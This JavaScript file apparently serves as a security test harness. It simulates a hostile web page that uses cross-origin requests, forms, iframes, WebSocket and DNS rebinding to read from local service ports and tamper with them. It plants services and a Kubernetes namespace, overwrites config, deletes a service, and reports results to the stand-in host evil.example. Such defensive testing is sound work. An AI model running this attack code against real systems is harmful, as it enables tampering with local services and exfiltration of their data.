// What a hostile page tries. It runs in a browser, twice: in a page of another origin, against ports of
// the machine (`targets`), and in a page whose own name was rebound to such a port (`own`).

const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const planted = 'planted-by-a-page';
const service = JSON.stringify({ name: planted, url: 'http://evil.example' });
const form = new URLSearchParams({ name: planted, url: 'http://evil.example' });
const namespace = JSON.stringify({
  apiVersion: 'v1',
  kind: 'Namespace',
  metadata: { name: planted },
});
const patienceMs = 5_000;

/** What came of one attempt: `read` and `open` are what must not be. */
async function attempt(what, action) {
  const late = wait(patienceMs).then(() => 'no answer');
  const outcome = await Promise.race([action().catch((error) => `refused: ${error.name}`), late]);
  return { what, outcome };
}

const outcomeOf = async (response) => {
  if (response.type === 'opaque') return 'opaque';
  const text = await response.text();
  return response.status === 403 || response.status === 401
    ? `refused: ${response.status}`
    : `read ${response.status}: ${text.slice(0, 60)}`;
};

async function ask(url, options) {
  return outcomeOf(await fetch(url, options));
}

/** What needs no leave of the server, and what asks for it first. */
export async function attack(base, paths) {
  const found = [];
  const add = async (what, action) => found.push(await attempt(`${what} ${base}`, action));
  for (const path of paths) {
    await add(`fetch ${path}`, () => ask(base + path));
    await add(`fetch with cookies ${path}`, () => ask(base + path, { credentials: 'include' }));
    await add(`fetch without CORS ${path}`, () => ask(base + path, { mode: 'no-cors' }));
    await add(`script ${path}`, () => include('script', base + path));
    await add(`image ${path}`, () => include('img', base + path));
    await add(`frame ${path}`, () => frame(base + path));
  }
  await add('plain post', () =>
    ask(`${base}/services`, { method: 'POST', mode: 'no-cors', body: service }),
  );
  await add('form by fetch', () =>
    ask(`${base}/services`, { method: 'POST', mode: 'no-cors', body: form }),
  );
  await add('form', () => submit(`${base}/services`));
  await add('namespace', () =>
    ask(`${base}/api/v1/namespaces`, { method: 'POST', mode: 'no-cors', body: namespace }),
  );
  const json = { 'content-type': 'application/json' };
  await add('put', () =>
    ask(`${base}/services/${planted}`, { method: 'PUT', headers: json, body: service }),
  );
  await add('config', () =>
    ask(`${base}/config`, { method: 'POST', headers: json, body: '{"_format_version":"3.0"}' }),
  );
  await add('delete', () => ask(`${base}/services/kept`, { method: 'DELETE' }));
  await add('WebSocket', () => webSocket(base));
  return found;
}

function include(tag, url) {
  return new Promise((resolve) => {
    const names = new Set(Object.getOwnPropertyNames(window));
    const element = document.createElement(tag);
    element.onerror = () => resolve('refused: error');
    element.onload = () => {
      const added = Object.getOwnPropertyNames(window).filter((name) => !names.has(name));
      resolve(tag === 'img' || added.length > 0 ? `read ${added.join()}` : 'nothing read');
    };
    element.src = url;
    document.body.append(element);
  });
}

/** A frame may be shown; what is in it may not be read. */
async function frame(url) {
  const element = document.createElement('iframe');
  const loaded = new Promise((resolve) => {
    element.onload = resolve;
  });
  element.src = url;
  document.body.append(element);
  await loaded;
  try {
    const text = element.contentDocument?.body?.textContent;
    const isOwn = text === undefined || /^\s*$|Refused: |refused: /.test(text);
    return isOwn ? 'nothing read' : `read ${text.slice(0, 60)}`;
  } finally {
    element.remove();
  }
}

async function submit(action) {
  const target = document.createElement('iframe');
  target.name = `frame${Math.random()}`;
  const element = document.createElement('form');
  Object.assign(element, { action, method: 'POST', target: target.name });
  for (const [name, value] of form) {
    const input = document.createElement('input');
    Object.assign(input, { name, value });
    element.append(input);
  }
  document.body.append(target, element);
  const loaded = new Promise((resolve) => {
    target.onload = resolve;
  });
  element.submit();
  await Promise.race([loaded, wait(1_000)]);
  return 'sent';
}

function webSocket(base) {
  return new Promise((resolve) => {
    const socket = new WebSocket(`${base.replace(/^http/, 'ws')}/`);
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve('refused: error');
  });
}

/** Tells the page's own server, wherever this page came from. */
async function report(found) {
  await fetch('http://evil.example/report', {
    method: 'POST',
    mode: 'no-cors',
    body: JSON.stringify(found),
  });
}

const { targets, paths, own } = globalThis.orders;
const bases = own ? [location.origin] : targets;
const results = await Promise.all(bases.map((base) => attack(base, paths)));
await report({ from: location.origin, found: results.flat() });
